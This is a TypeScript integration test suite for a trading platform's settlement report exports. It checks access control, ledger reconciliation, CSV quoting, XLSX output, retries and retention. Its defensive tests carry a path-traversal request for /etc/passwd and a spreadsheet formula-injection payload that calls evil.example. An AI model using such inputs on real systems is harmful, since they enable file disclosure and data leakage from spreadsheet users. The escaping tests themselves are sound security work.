import { createHash } from 'node:crypto';
import { mkdtemp, readdir, rename, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { Decimal } from '@gpupool/platform';
import { REPORT_COLUMNS, ReportingSweep } from '@gpupool/reporting';
import { SettlementService } from '@gpupool/settlement';
import { codesOf } from './support/graphql-client';
import { eventually, Pool } from './support/pool';
import { startStack, TestStack } from './support/stack';
import type { Role } from './support/graphql/generated/graphql';

const REPORT_FIELDS =
  'id status format from to partnerId progressPercent rowCount totals { quantity netAmount taxAmount grossAmount costAmount marginAmount } sha256 downloadUrl error attempts createdAt startedAt finishedAt';
const REQUEST = `mutation($i: RequestSettlementReportInput!) { requestSettlementReport(input: $i) { ${REPORT_FIELDS} } }`;
const QUERY = `query($id: ID!) { settlementReport(id: $id) { ${REPORT_FIELDS} } }`;
const HEADER = REPORT_COLUMNS.map((c) => c.header);
const col = (name: string) => HEADER.indexOf(name as (typeof HEADER)[number]);

type Report = Record<string, any>;
interface Period {
  from: Date;
  to: Date;
  partnerId?: string;
}

describe('settlement reports: CSV and XLSX exports that reconcile with the ledger', () => {
  let stack: TestStack;
  let pool: Pool;
  let reportsDir: string;
  let alpha: { id: string; key: string };
  let beta: { id: string; key: string };
  let keys: Record<'FINANCE' | 'OPERATOR', string>;
  let financeKeyId: string;
  /** Before any settlement; the first wave settles before `secondWave`, the second at or after it. */
  let start: Date;
  let secondWave: Date;
  let end: Date;

  const ok = async (key: string, query: string, variables?: Record<string, unknown>) => {
    const res = await stack.gql(key, query, variables);
    if (res.errors) throw new Error(JSON.stringify(res.errors));
    return res.data!;
  };
  const request = async (period: Period, format = 'CSV', key = keys.FINANCE): Promise<Report> =>
    (await ok(key, REQUEST, { i: { from: period.from.toISOString(), to: period.to.toISOString(), format, partnerId: period.partnerId } }))
      .requestSettlementReport;
  const report = async (id: string): Promise<Report> => (await ok(keys.FINANCE, QUERY, { id })).settlementReport;
  const finished = (id: string, timeoutMs = 20_000) =>
    eventually(
      () => report(id),
      (r) => r.status === 'SUCCEEDED' || r.status === 'FAILED',
      timeoutMs,
    );
  const built = async (period: Period, format = 'CSV'): Promise<Report> => {
    const done = await finished((await request(period, format)).id);
    expect(done).toMatchObject({ status: 'SUCCEEDED', error: null });
    return done;
  };
  const download = async (path: string, key?: string) => {
    const res = await fetch(`${stack.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
    return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
  };
  const csvOf = async (done: Report): Promise<{ bytes: Buffer; rows: string[][] }> => {
    const file = await download(done.downloadUrl, keys.FINANCE);
    expect(file.status).toBe(200);
    const [header, ...rows] = parse(file.body, { record_delimiter: '\r\n' }) as string[][];
    expect(header).toEqual(HEADER);
    return { bytes: file.body, rows };
  };
  const count = async (sql: string, params: unknown[] = []) => Number((await stack.dataSource.query(sql, params))[0].n);

  /** What the ledger booked for the settlements of a period: revenue, VAT, receivables (gross) and COGS. */
  const ledgerTotals = async ({ from, to, partnerId }: Period) => {
    const rows: { code: string; sum: string }[] = await stack.dataSource.query(
      `SELECT a.code, sum(p.amount)::text AS sum
         FROM posting p JOIN ledger_account a ON a.id = p.account_id
        WHERE p.journal_entry_id IN (SELECT journal_entry_id FROM settlement
                                      WHERE settled_at >= $1 AND settled_at < $2 AND ($3::uuid IS NULL OR partner_id = $3))
        GROUP BY a.code`,
      [from, to, partnerId ?? null],
    );
    const sum = (match: (code: string) => boolean) => rows.filter((r) => match(r.code)).reduce((s, r) => s.plus(r.sum), new Decimal(0));
    const net = sum((c) => c === 'SALES_REVENUE').neg();
    const cost = sum((c) => c === 'COGS');
    return {
      netAmount: net.toFixed(2),
      taxAmount: sum((c) => c === 'VAT_PAYABLE')
        .neg()
        .toFixed(2),
      grossAmount: sum((c) => c.startsWith('RECEIVABLE:')).toFixed(2),
      costAmount: cost.toFixed(2),
      marginAmount: net.minus(cost).toFixed(2),
    };
  };
  const settlementsIn = async ({ from, to, partnerId }: Period) =>
    (await stack.dataSource.query(
      `SELECT id FROM settlement WHERE settled_at >= $1 AND settled_at < $2 AND ($3::uuid IS NULL OR partner_id = $3) ORDER BY settled_at, id`,
      [from, to, partnerId ?? null],
    )) as { id: string }[];

  /** Places orders that fill at once, and waits until every fill is settled. */
  const trade = async (orders: { who: { key: string }; clientOrderId: string; skuCode: string; quantity: number }[]) => {
    for (const o of orders) {
      const placed = await pool.place(o.who.key, {
        clientOrderId: o.clientOrderId,
        skuCode: o.skuCode,
        regionCode: o.skuCode === 'MLU370' ? 'cn-shanghai' : 'cn-beijing',
        quantity: o.quantity,
        limitPrice: '120000.00',
        timeInForce: 'IOC',
      });
      expect(placed.errors).toBeUndefined();
      await pool.until(o.who.key, placed.data!.placeOrder.id, (order) => order.status === 'FILLED');
    }
    // The worker settles fills as they come; settling here too (idempotent) makes the wave end now.
    const fills: { id: string }[] = await stack.dataSource.query('SELECT id FROM fill');
    await stack.get(SettlementService).settleMany(fills.map((f) => f.id));
    expect(await count('SELECT (SELECT count(*) FROM fill) - (SELECT count(*) FROM settlement) AS n')).toBe(0);
  };

  /** Makes the reports directory a plain file (nothing can be written under it) until `unblock`. */
  const block = async () => {
    await rename(reportsDir, `${reportsDir}.aside`);
    await writeFile(reportsDir, 'not a directory');
  };
  const unblock = async () => {
    await unlink(reportsDir);
    await rename(`${reportsDir}.aside`, reportsDir);
  };

  beforeAll(async () => {
    reportsDir = join(await mkdtemp(join(tmpdir(), 'gpupool-reports-')), 'reports');
    stack = await startStack({ worker: true, env: { REPORTS_DIR: reportsDir } });
    pool = new Pool(stack);
    alpha = await pool.partner('Quote "Q", Comma, Inc.', 'CN');
    beta = await pool.partner('Beta Labs', 'SG');
    const issue = (role: Role) => pool.key(role, role);
    const finance = await issue('FINANCE');
    financeKeyId = finance.id;
    keys = { FINANCE: finance.key, OPERATOR: (await issue('OPERATOR')).key };

    await pool.receive('ASCEND-910B', 'cn-beijing', 300, '90000.00');
    await pool.receive('ASCEND-910B', 'cn-beijing', 700, '91234.57');
    await pool.receive('MLU370', 'cn-shanghai', 1000, '45000.33');
    await pool.share('5.00');
    await pool.ask('ASCEND-910B', 'cn-beijing', '98765.43');
    await pool.ask('MLU370', 'cn-shanghai', '51234.57');

    start = new Date(Date.now() - 1000);
    await trade([
      { who: alpha, clientOrderId: 'a-1,"comma"', skuCode: 'ASCEND-910B', quantity: 7 },
      { who: beta, clientOrderId: 'b-1', skuCode: 'ASCEND-910B', quantity: 3 },
      { who: alpha, clientOrderId: 'a-2', skuCode: 'MLU370', quantity: 11 },
    ]);
    await new Promise((r) => setTimeout(r, 20));
    secondWave = new Date();
    await new Promise((r) => setTimeout(r, 20));
    await trade([
      { who: beta, clientOrderId: 'b-2 "quoted"', skuCode: 'ASCEND-910B', quantity: 29 },
      { who: alpha, clientOrderId: 'a-3', skuCode: 'MLU370', quantity: 5 },
      { who: beta, clientOrderId: 'b-3', skuCode: 'MLU370', quantity: 13 },
    ]);
    end = new Date(Date.now() + 1000);
  });
  afterAll(async () => {
    await stack.close();
    await rm(join(reportsDir, '..'), { recursive: true, force: true });
  });

  describe('who may ask', () => {
    const period = () => ({ from: start.toISOString(), to: end.toISOString(), format: 'CSV' });

    it('refuses PARTNER and OPERATOR keys (FORBIDDEN) and no key (UNAUTHENTICATED), writing nothing', async () => {
      const before = await count('SELECT count(*) AS n FROM settlement_report');
      for (const key of [alpha.key, keys.OPERATOR]) {
        expect(codesOf(await stack.gql(key, REQUEST, { i: period() }))).toEqual(['FORBIDDEN']);
        expect(codesOf(await stack.gql(key, QUERY, { id: '00000000-0000-4000-8000-000000000000' }))).toEqual(['FORBIDDEN']);
      }
      expect(codesOf(await stack.gql(undefined, REQUEST, { i: period() }))).toEqual(['UNAUTHENTICATED']);
      expect(await count('SELECT count(*) AS n FROM settlement_report')).toBe(before);
    });

    it('answers null for an unknown or malformed id', async () => {
      expect(await report('00000000-0000-4000-8000-000000000000')).toBeNull();
      expect(await report('not-a-uuid')).toBeNull();
      expect((await ok(stack.adminKey, QUERY, { id: '00000000-0000-4000-8000-000000000000' })).settlementReport).toBeNull();
    });
  });

  describe('bad input is refused with a clear message and writes nothing', () => {
    it.each([
      ['from after to', { from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'BAD_USER_INPUT', /must be before to/],
      ['an empty period', { from: '2026-01-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'BAD_USER_INPUT', /must be before to/],
      ['more than 366 days', { from: '2024-01-01T00:00:00Z', to: '2025-01-02T00:00:00Z' }, 'BAD_USER_INPUT', /at most 366 days/],
      ['a time without a zone', { from: '2026-01-01T00:00:00', to: '2026-02-01T00:00:00Z' }, 'BAD_USER_INPUT', /ISO-8601/],
      ['a malformed partner id', { partnerId: 'alpha' }, 'BAD_USER_INPUT', /partnerId must be a partner id/],
      ['an unknown partner', { partnerId: '00000000-0000-4000-8000-000000000000' }, 'NOT_FOUND', /Partner .* was not found/],
      ['an unknown format', { format: 'PDF' }, 'BAD_USER_INPUT', /ReportFormat/],
    ])('%s', async (_case, change, code, message) => {
      const [reports, audits] = [
        await count('SELECT count(*) AS n FROM settlement_report'),
        await count('SELECT count(*) AS n FROM audit_event'),
      ];
      const res = await stack.gql(keys.FINANCE, REQUEST, {
        i: { from: '2026-01-01T00:00:00Z', to: '2026-02-01T00:00:00Z', format: 'CSV', ...change },
      });
      expect(codesOf(res)).toEqual([code]);
      expect(res.errors![0].message).toMatch(message);
      expect(await count('SELECT count(*) AS n FROM settlement_report')).toBe(reports);
      expect(await count('SELECT count(*) AS n FROM audit_event')).toBe(audits);
    });
  });

  describe('CSV', () => {
    it('reports every settlement of the period once, in settlement order, with totals equal to the ledger to the fen', async () => {
      const period = { from: start, to: end };
      const queued = await request(period);
      expect(queued).toMatchObject({
        status: 'QUEUED',
        format: 'CSV',
        progressPercent: 0,
        downloadUrl: null,
        totals: null,
        partnerId: null,
      });
      expect(
        await count(`SELECT count(*) AS n FROM audit_event WHERE action = 'settlement-report.request' AND entity_id = $1`, [queued.id]),
      ).toBe(1);

      const done = await finished(queued.id);
      const expectedIds = (await settlementsIn(period)).map((s) => s.id);
      // Every settlement of the set-up's partners is in the period (the formula test trades after it).
      expect(expectedIds.length).toBe(
        await count('SELECT count(*) AS n FROM settlement WHERE partner_id = ANY($1)', [[alpha.id, beta.id]]),
      );
      expect(done).toMatchObject({ status: 'SUCCEEDED', progressPercent: 100, rowCount: expectedIds.length, error: null, attempts: 1 });
      expect(done.downloadUrl).toBe(`/reports/${done.id}/download`);
      expect(done.totals).toMatchObject(await ledgerTotals(period));
      expect(done.totals.quantity).toBe(7 + 3 + 11 + 29 + 5 + 13);

      const { bytes, rows } = await csvOf(done);
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(done.sha256);
      expect(rows.map((r) => r[col('settlement_id')])).toEqual(expectedIds);
      // Exact decimals with two places, margins = net − cost, and the columns add up to the totals.
      const sums = { net: new Decimal(0), tax: new Decimal(0), gross: new Decimal(0), cost: new Decimal(0) };
      for (const row of rows) {
        for (const name of ['unit_price', 'net_amount', 'tax_amount', 'gross_amount', 'cost_amount', 'margin_amount', 'tax_rate_percent']) {
          expect(row[col(name)]).toMatch(/^-?\d+\.\d{2}$/);
        }
        expect(new Decimal(row[col('net_amount')]).minus(row[col('cost_amount')]).toFixed(2)).toBe(row[col('margin_amount')]);
        expect(new Decimal(row[col('net_amount')]).plus(row[col('tax_amount')]).toFixed(2)).toBe(row[col('gross_amount')]);
        expect(row[col('settled_at')]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
        expect(row[col('currency')]).toBe('CNY');
        sums.net = sums.net.plus(row[col('net_amount')]);
        sums.tax = sums.tax.plus(row[col('tax_amount')]);
        sums.gross = sums.gross.plus(row[col('gross_amount')]);
        sums.cost = sums.cost.plus(row[col('cost_amount')]);
      }
      expect([sums.net, sums.tax, sums.gross, sums.cost].map((d) => d.toFixed(2))).toEqual([
        done.totals.netAmount,
        done.totals.taxAmount,
        done.totals.grossAmount,
        done.totals.costAmount,
      ]);
      const first = rows.find((r) => r[col('client_order_id')] === 'a-1,"comma"')!;
      expect(first).toBeDefined();
      expect(first[col('partner')]).toBe('Quote "Q", Comma, Inc.');
      expect(first.slice(col('sku'), col('region') + 1)).toEqual(['ASCEND-910B', 'cn-beijing']);
      expect(first[col('tax_rate_percent')]).toBe('13.00');
      const [fill] = await stack.dataSource.query(
        `SELECT f.order_id, f.quantity, f.price::text, s.journal_entry_id, f.executed_at FROM settlement s JOIN fill f ON f.id = s.fill_id WHERE s.id = $1`,
        [first[col('settlement_id')]],
      );
      expect([first[col('order_id')], Number(first[col('quantity')]), first[col('unit_price')], first[col('journal_entry_id')]]).toEqual([
        fill.order_id,
        fill.quantity,
        fill.price,
        fill.journal_entry_id,
      ]);
      expect(first[col('executed_at')]).toBe(fill.executed_at.toISOString());
      // RFC 4180 quoting in the raw bytes (typed values always quoted), CRLF line ends.
      const text = bytes.toString('utf8');
      expect(text).toContain(',"a-1,""comma""","Quote ""Q"", Comma, Inc.","ASCEND-910B","cn-beijing",');
      expect(text).toContain(',"b-2 ""quoted""","Beta Labs","ASCEND-910B",');
      expect(text.split('\r\n')).toHaveLength(rows.length + 2);
      expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    });

    it('includes from and excludes to: [from, to) splits the settlements without overlap or gap', async () => {
      const firstHalf = await built({ from: start, to: secondWave });
      const secondHalf = await built({ from: secondWave, to: end });
      const all = (await settlementsIn({ from: start, to: end })).map((s) => s.id);
      const a = (await csvOf(firstHalf)).rows.map((r) => r[col('settlement_id')]);
      const b = (await csvOf(secondHalf)).rows.map((r) => r[col('settlement_id')]);
      expect(a.length).toBe(3);
      expect([...a, ...b]).toEqual(all);
      expect(firstHalf.totals).toMatchObject(await ledgerTotals({ from: start, to: secondWave }));
      expect(secondHalf.totals).toMatchObject(await ledgerTotals({ from: secondWave, to: end }));

      const [firstSettled] = await stack.dataSource.query(`SELECT min(settled_at) AS at FROM settlement`);
      const atFirst = await built({ from: firstSettled.at, to: new Date(firstSettled.at.getTime() + 1) });
      expect(atFirst.rowCount).toBe(await count(`SELECT count(*) AS n FROM settlement WHERE settled_at = $1`, [firstSettled.at]));
      expect((await built({ from: start, to: firstSettled.at })).rowCount).toBe(0);
    });

    it("filters by partner: only that partner's settlements, totals equal its ledger postings", async () => {
      for (const who of [alpha, beta]) {
        const period = { from: start, to: end, partnerId: who.id };
        const done = await built(period);
        expect(done.partnerId).toBe(who.id);
        const expected = (await settlementsIn(period)).map((s) => s.id);
        expect(expected.length).toBe(3);
        const { rows } = await csvOf(done);
        expect(rows.map((r) => r[col('settlement_id')])).toEqual(expected);
        expect(new Set(rows.map((r) => r[col('partner')]))).toEqual(new Set([who === alpha ? 'Quote "Q", Comma, Inc.' : 'Beta Labs']));
        expect(done.totals).toMatchObject(await ledgerTotals(period));
      }
      expect((await ledgerTotals({ from: start, to: end, partnerId: beta.id })).taxAmount).toBe('0.00');
    });

    it('writes only the header for an empty period, with zero totals', async () => {
      const done = await built({ from: new Date('2020-01-01T00:00:00Z'), to: new Date('2020-12-31T00:00:00Z') });
      expect(done).toMatchObject({
        rowCount: 0,
        progressPercent: 100,
        totals: { quantity: 0, netAmount: '0.00', taxAmount: '0.00', grossAmount: '0.00', costAmount: '0.00', marginAmount: '0.00' },
      });
      const { bytes } = await csvOf(done);
      expect(bytes.toString('utf8')).toBe(`${HEADER.join(',')}\r\n`);
      expect(done.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    });

    it('gives the same bytes and checksum for the same request over the same settlements', async () => {
      const one = await built({ from: start, to: end });
      const two = await built({ from: start, to: end });
      expect(two.id).not.toBe(one.id);
      expect(two.sha256).toBe(one.sha256);
      expect((await csvOf(two)).bytes.equals((await csvOf(one)).bytes)).toBe(true);
    });
  });

  describe('XLSX', () => {
    it('opens with exceljs: frozen header, typed cells equal to the CSV, and a totals row equal to the ledger', async () => {
      const period = { from: start, to: end };
      const xlsx = await built(period, 'XLSX');
      const csv = (await csvOf(await built(period))).rows;
      const file = await download(xlsx.downloadUrl, keys.FINANCE);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(createHash('sha256').update(file.body).digest('hex')).toBe(xlsx.sha256);

      const book = new ExcelJS.Workbook();
      await book.xlsx.load(file.body as unknown as ArrayBuffer);
      const sheet = book.getWorksheet('Settlements')!;
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.rowCount).toBe(csv.length + 2);
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADER);

      const amounts = ['unit_price', 'net_amount', 'tax_amount', 'gross_amount', 'cost_amount', 'margin_amount'].map(col);
      csv.forEach((expected, i) => {
        const row = sheet.getRow(i + 2);
        HEADER.forEach((name, c) => {
          const cell = row.getCell(c + 1);
          if (name === 'executed_at' || name === 'settled_at') {
            expect(cell.type).toBe(ExcelJS.ValueType.Date);
            expect((cell.value as Date).toISOString()).toBe(expected[c]);
          } else if (amounts.includes(c) || name === 'quantity' || name === 'tax_rate_percent') {
            expect(cell.type).toBe(ExcelJS.ValueType.Number);
            expect(new Decimal(cell.value as number).toFixed(2)).toBe(new Decimal(expected[c]).toFixed(2));
          } else {
            expect(cell.value).toBe(expected[c]);
          }
        });
        expect(row.getCell(col('net_amount') + 1).numFmt).toBe('#,##0.00');
      });
      const totals = sheet.getRow(csv.length + 2);
      const ledger = await ledgerTotals(period);
      expect(totals.getCell(1).value).toBe('Total');
      expect(totals.getCell(col('quantity') + 1).value).toBe(xlsx.totals.quantity);
      const totalOf = (name: string) => new Decimal(totals.getCell(col(name) + 1).value as number).toFixed(2);
      expect({
        netAmount: totalOf('net_amount'),
        taxAmount: totalOf('tax_amount'),
        grossAmount: totalOf('gross_amount'),
        costAmount: totalOf('cost_amount'),
        marginAmount: totalOf('margin_amount'),
      }).toEqual(ledger);
      expect(xlsx.totals).toMatchObject(ledger);
    });
  });

  describe('download', () => {
    let done: Report;
    let from: Date;
    let to: Date;
    /** A period bound as the file name shows it: 2026-01-31T120500Z. */
    const stamp = (at: Date) => at.toISOString().replace(/:/g, '').replace('.000Z', 'Z');
    beforeAll(async () => {
      from = new Date(Math.floor(start.getTime() / 1000) * 1000);
      to = new Date(Math.ceil(end.getTime() / 1000) * 1000);
      done = await built({ from, to, partnerId: alpha.id });
    });

    it('streams the file with its type, name, length and checksum to FINANCE and ADMIN', async () => {
      for (const key of [keys.FINANCE, stack.adminKey]) {
        const file = await download(done.downloadUrl, key);
        expect(file.status).toBe(200);
        expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        expect(file.headers.get('content-disposition')).toBe(
          `attachment; filename="settlements_${stamp(from)}_${stamp(to)}_Quote-Q-Comma-Inc.csv"`,
        );
        expect(file.headers.get('content-length')).toBe(String(file.body.length));
        expect(file.headers.get('x-checksum-sha256')).toBe(done.sha256);
        expect(file.headers.get('etag')).toBe(`"${done.sha256}"`);
        expect(createHash('sha256').update(file.body).digest('hex')).toBe(done.sha256);
      }
    });

    it('answers 401 without a valid key, 403 to PARTNER and OPERATOR, 404 for an unknown report or one not built yet', async () => {
      expect((await download(done.downloadUrl)).status).toBe(401);
      expect((await download(done.downloadUrl, 'gpk_unknown')).status).toBe(401);
      for (const key of [alpha.key, keys.OPERATOR]) {
        const refused = await download(done.downloadUrl, key);
        expect(refused.status).toBe(403);
        expect(JSON.parse(refused.body.toString())).toMatchObject({ code: 'FORBIDDEN' });
      }
      expect((await download('/reports/00000000-0000-4000-8000-000000000000/download', keys.FINANCE)).status).toBe(404);
      expect((await download('/reports/..%2F..%2Fetc%2Fpasswd/download', keys.FINANCE)).status).toBe(404);
      const [{ id: queuedId }] = await stack.dataSource.query(
        `INSERT INTO settlement_report (format, period_from, period_to, requested_by) VALUES ('CSV', $1, $2, $3) RETURNING id`,
        [new Date('2019-01-01T00:00:00Z'), new Date('2019-02-01T00:00:00Z'), financeKeyId],
      );
      const notYet = await download(`/reports/${queuedId}/download`, keys.FINANCE);
      expect(notYet.status).toBe(404);
      expect(JSON.parse(notYet.body.toString()).message).toMatch(/is QUEUED; its file can be downloaded once it is SUCCEEDED/);
      expect((await report(queuedId)).downloadUrl).toBeNull();
    });
  });

  describe('failures and recovery', () => {
    const partsLeft = async () => (await readdir(reportsDir)).filter((name) => name.endsWith('.part'));

    it('retries a failed attempt from scratch: the report ends SUCCEEDED with the same bytes and no part file left', async () => {
      const reference = await built({ from: start, to: end });
      await block();
      let unblocked = false;
      try {
        const queued = await request({ from: start, to: end });
        const failedOnce = await eventually(
          () => report(queued.id),
          (r) => r.attempts >= 1 && r.status === 'QUEUED' && r.error !== null,
        );
        expect(failedOnce.error).toMatch(/could not be written to the reports directory \(E[A-Z]+\).*REPORTS_DIR.*Retrying/);
        expect(failedOnce.downloadUrl).toBeNull();
        await unblock();
        unblocked = true;
        const done = await finished(queued.id);
        expect(done).toMatchObject({ status: 'SUCCEEDED', error: null, rowCount: reference.rowCount, sha256: reference.sha256 });
        expect(done.attempts).toBeGreaterThanOrEqual(2);
        expect((await csvOf(done)).bytes.equals((await csvOf(reference)).bytes)).toBe(true);
        expect(await partsLeft()).toEqual([]);
      } finally {
        if (!unblocked) await unblock();
      }
    });

    it('marks the report FAILED after its last attempt, with a message a person can act on and no stack', async () => {
      await block();
      try {
        const queued = await request({ from: start, to: end }, 'XLSX');
        const failed = await finished(queued.id, 30_000);
        expect(failed).toMatchObject({ status: 'FAILED', attempts: 4, downloadUrl: null, totals: null, sha256: null });
        expect(failed.error).toMatch(
          /^The report file could not be written to the reports directory \(E[A-Z]+\); the worker's REPORTS_DIR must be a writable directory with free space\. Gave up after 4 attempts; request the report again\.$/,
        );
        expect(failed.finishedAt).not.toBeNull();
        expect((await download(`/reports/${queued.id}/download`, keys.FINANCE)).status).toBe(404);
      } finally {
        await unblock();
      }
      expect(await partsLeft()).toEqual([]);
    });

    it('the sweep queues a report left QUEUED with no job, which is then built', async () => {
      const [{ id }] = await stack.dataSource.query(
        `INSERT INTO settlement_report (format, period_from, period_to, partner_id, requested_by, created_at)
         VALUES ('CSV', $1, $2, $3, $4, now() - interval '10 minutes') RETURNING id`,
        [start, end, beta.id, financeKeyId],
      );
      const sweep = stack.get(ReportingSweep);
      expect(await sweep.run()).toBeGreaterThanOrEqual(1);
      const done = await finished(id);
      expect(done).toMatchObject({ status: 'SUCCEEDED', rowCount: 3 });
      expect(done.totals).toMatchObject(await ledgerTotals({ from: start, to: end, partnerId: beta.id }));
      expect(await sweep.run()).toBe(0);
    });

    it('finds a report stuck with no job in one sweep interval, not minutes later', async () => {
      const interval = Number(stack.env.SWEEP_INTERVAL_MS ?? 30_000);
      const [{ id }] = await stack.dataSource.query(
        `INSERT INTO settlement_report (format, period_from, period_to, partner_id, requested_by, created_at)
         VALUES ('CSV', $1, $2, $3, $4, now() - make_interval(secs => $5::double precision / 1000 + 1)) RETURNING id`,
        [start, end, beta.id, financeKeyId, interval],
      );
      expect(await stack.get(ReportingSweep).run()).toBeGreaterThanOrEqual(1);
      expect(await finished(id)).toMatchObject({ status: 'SUCCEEDED', rowCount: 3 });
    });

    it('removes a file REPORTS_RETENTION_DAYS after its report finished: fileDeletedAt set, no downloadUrl, download answers 410', async () => {
      const old = await built({ from: start, to: end, partnerId: beta.id });
      const recent = await built({ from: start, to: end, partnerId: alpha.id });
      await stack.dataSource.query(`UPDATE settlement_report SET finished_at = now() - interval '30 days 1 minute' WHERE id = $1`, [
        old.id,
      ]);
      await stack.dataSource.query(`UPDATE settlement_report SET finished_at = now() - interval '29 days 23 hours' WHERE id = $1`, [
        recent.id,
      ]);
      const files = async () => (await readdir(reportsDir)).filter((name) => name.startsWith(old.id) || name.startsWith(recent.id));
      expect(await files()).toHaveLength(2);

      expect(await stack.get(ReportingSweep).removeExpiredFiles()).toBe(1);
      expect(await files()).toEqual([`${recent.id}.csv`]);
      const after = (
        await ok(
          keys.FINANCE,
          `query($id: ID!) { settlementReport(id: $id) { status downloadUrl fileDeletedAt sha256 totals { grossAmount } } }`,
          { id: old.id },
        )
      ).settlementReport;
      expect(after).toMatchObject({
        status: 'SUCCEEDED',
        downloadUrl: null,
        sha256: old.sha256,
        totals: { grossAmount: old.totals.grossAmount },
      });
      expect(Date.now() - new Date(after.fileDeletedAt).getTime()).toBeLessThan(60_000);
      const gone = await download(old.downloadUrl, keys.FINANCE);
      expect(gone.status).toBe(410);
      expect(JSON.parse(gone.body.toString())).toMatchObject({ code: 'REPORT_FILE_DELETED' });
      expect(JSON.parse(gone.body.toString()).message).toMatch(/removed on .* 30 days after it was built; request the report again/);
      expect((await download(recent.downloadUrl, keys.FINANCE)).status).toBe(200);
      expect(await stack.get(ReportingSweep).removeExpiredFiles()).toBe(0);
    });
  });
  describe('values a spreadsheet would run as formulas', () => {
    it('writes them in CSV as quoted text behind a single quote (OWASP), recoverable, with the totals unchanged; XLSX keeps them as text', async () => {
      // After the set-up's period, so the period's reports stay the set-up's whatever the order of the tests.
      await new Promise((r) => setTimeout(r, Math.max(0, end.getTime() - Date.now())));
      const from = new Date(Date.now() - 1);
      const evil = await pool.partner('@Formula "Labs"', 'SG');
      const typed = ['=HYPERLINK("https://evil.example/?leak","Click")', '+1+2', '-3', "'quoted", 'plain'];
      await trade(typed.map((clientOrderId) => ({ who: evil, clientOrderId, skuCode: 'MLU370', quantity: 1 })));
      const period = { from, to: new Date(Date.now() + 1000), partnerId: evil.id };
      const done = await built(period);
      expect(done.rowCount).toBe(typed.length);
      expect(done.totals).toMatchObject(await ledgerTotals(period));

      const { bytes, rows } = await csvOf(done);
      const text = bytes.toString('utf8');
      expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak"",""Click"")","'@Formula ""Labs""","MLU370","cn-shanghai",`);
      expect(text).toContain(`,"'+1+2",`);
      expect(text).toContain(`,"''quoted",`);
      expect(text).toContain(`,"plain",`);
      for (const row of rows) {
        for (const name of ['client_order_id', 'partner', 'sku', 'region']) expect(row[col(name)]).not.toMatch(/^[=+\-@\t\r]/);
      }
      // Dropping one leading single quote gives every value back exactly.
      const recovered = (value: string) => (value.startsWith("'") ? value.slice(1) : value);
      expect(rows.map((r) => recovered(r[col('client_order_id')]!)).sort()).toEqual([...typed].sort());
      expect(new Set(rows.map((r) => recovered(r[col('partner')]!)))).toEqual(new Set(['@Formula "Labs"']));
      const sum = rows.reduce((total, r) => total.plus(r[col('gross_amount')]!), new Decimal(0));
      expect(sum.toFixed(2)).toBe(done.totals.grossAmount);

      const xlsx = await built(period, 'XLSX');
      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await download(xlsx.downloadUrl, keys.FINANCE)).body as unknown as ArrayBuffer);
      const cells = book
        .getWorksheet('Settlements')!
        .getSheetValues()
        .slice(2, 2 + typed.length)
        .map((row) => (row as unknown[])[col('client_order_id') + 1]);
      expect([...cells].sort()).toEqual([...typed].sort());
    });
  });
});
